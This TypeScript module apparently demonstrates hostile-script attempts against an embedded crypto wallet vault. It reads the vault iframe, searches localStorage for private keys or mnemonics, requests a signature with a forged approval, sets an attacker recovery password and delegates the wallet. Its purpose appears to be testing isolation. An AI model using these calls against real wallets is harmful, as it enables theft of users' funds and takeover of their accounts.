import { openVault, type Vault, type VaultReply } from './openVault.ts'

export type Target = { vaultUrl: string; accessToken: string; address: string }
/** One attempt of the attacker: what it was, what it got, and whether that is worth anything. */
export type Attempt = { name: string; got: string; isStolen: boolean }

const SIGNATURE = /0x[0-9a-f]{130}/i

/** Runs the attempts of a hostile script in this page, with the user's session, one after the other. */
export async function* attackPage(target: Target): AsyncGenerator<Attempt> {
  const vault = await openVault(target.vaultUrl)
  try {
    yield readFrame(vault)
    yield readStorage()
    const signed = await sign(vault, target)
    yield signed
    // An app that confirms in the host page would obey: this page only shows it, it does no damage.
    if (!signed.isStolen) {
      yield toAttempt('Set a recovery password', await setPassword(vault, target))
      yield toAttempt('Delegate the wallet to a back end', await delegate(vault, target))
    }
  } finally {
    vault.close()
  }
}

function readFrame({ frame }: Vault): Attempt {
  const name = 'Read the page of the vault'
  try {
    const found = frame.contentWindow?.document.documentElement.innerHTML
    return { name, got: `${found?.length} characters`, isStolen: true }
  } catch (error) {
    return { name, got: (error as Error).name, isStolen: false }
  }
}

/** A session is all that the storage of a host page has. */
function readStorage(): Attempt {
  const names = Object.keys(localStorage)
  const found = names.map((name) => localStorage.getItem(name) ?? '').join()
  const hasKey = /["']?(privateKey|mnemonic|share)["']?\s*:/.test(found)
  return {
    name: "Search this page's storage for a key",
    got: hasKey ? 'a key' : `${names.length} entries: the session and settings, no key`,
    isStolen: hasKey,
  }
}

const entropyOf = (address: string) => ({
  entropyId: address,
  entropyIdVerifier: 'ethereum-address-verifier',
})

async function sign(vault: Vault, { accessToken, address }: Target): Promise<Attempt> {
  const reply = await vault.ask('privy:wallets:rpc', {
    accessToken,
    ...entropyOf(address),
    chainType: 'ethereum',
    hdWalletIndex: 0,
    request: { method: 'personal_sign', params: ['All my coins to the thief.', address] },
    approval: { id: crypto.randomUUID(), digest: '00' },
  })
  return toAttempt('Sign a message with a forged approval', reply)
}

const setPassword = (vault: Vault, { accessToken, address }: Target) =>
  vault.ask('privy:wallets:set-recovery', {
    accessToken,
    ...entropyOf(address),
    recoveryMethod: 'user-passcode',
    recoveryPassword: 'chosen-by-a-thief',
  })

const delegate = (vault: Vault, { accessToken, address }: Target) =>
  vault.ask('privy:delegated-actions:consent', {
    accessToken,
    rootWallet: { address, chainType: 'ethereum', imported: false },
    delegatedWallets: [{ address, chainType: 'ethereum', walletIndex: 0 }],
  })

/** Describes a reply: an error code, silence, or the loot. */
export function toAttempt(name: string, reply: VaultReply): Attempt {
  if (!reply) return { name, got: 'no answer', isStolen: false }
  if (reply.error) return { name, got: reply.error.type, isStolen: false }
  const signature = SIGNATURE.exec(JSON.stringify(reply.data ?? ''))?.[0]
  return { name, got: signature ? `a signature: ${signature}` : 'it worked', isStolen: true }
}
